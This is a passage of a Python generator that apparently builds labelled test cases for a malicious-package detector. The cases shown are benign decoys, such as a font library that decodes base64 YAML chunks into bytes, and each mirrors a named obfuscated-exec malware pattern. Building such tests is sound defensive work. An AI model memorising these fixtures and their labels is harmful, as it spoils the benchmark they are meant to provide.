        ["char-codes", "package-json", "library"],
        "Mirrors reach6-pkgjson-config-charcodes-spread: char codes in a package.json field "
        "spread into String.fromCharCode, but the text is drawn, never run.",
        files,
    )


@benign
def b_yaml_base64_glyph_chunks():
    import base64
    import hashlib
    glyph = b"".join(hashlib.sha256(b"pixel-7:%d" % i).digest() for i in range(16))
    enc = base64.b64encode(glyph).decode()
    items = "".join(f"    - {enc[i:i + 64]}\n" for i in range(0, len(enc), 64))
    words = "".join(f"    - {base64.b64encode(w.encode()).decode()}\n" for w in ["Bonjour", "Hallo", "Hola", "Ciao"])
    yml = "font:\n  name: pixel-7\n  chunks:\n" + items + "greetings:\n  encoded:\n" + words
    files = {
        "package.json": pj(name="pixel-font-data", version="1.3.0", main="index.js",
                           description="A 7px bitmap font as data, for canvas games"),
        "README.md": readme("pixel-font-data", "```js\nrequire('pixel-font-data').glyphs()\n```"),
        "font.yml": yml,
        "index.js": r'''"use strict";
const fs = require("fs");
const path = require("path");
const yaml = require("js-yaml");

const data = yaml.load(fs.readFileSync(path.join(__dirname, "font.yml"), "utf8"));

module.exports.glyphs = () => Buffer.from(data.font.chunks.join(""), "base64");
module.exports.greetings = () => data.greetings.encoded.map((g) => Buffer.from(g, "base64").toString());
''',
    }
    return S(
        "reach6-benign-yaml-base64-glyph-chunks",
        "bitmap font kept in YAML as base64 chunks joined and decoded to bytes, plus a list of base64-encoded greetings decoded for display",
        "2025",
        ["yaml", "base64", "data", "library"],
        "Mirrors reach6-json-chunks-reflect-apply-exec and evasion-yaml-fragments-callbind-exec: "
        "base64 list items in a data file joined and decoded by the code, but the result is "
        "font bytes and words, not code.",
        files,
    )
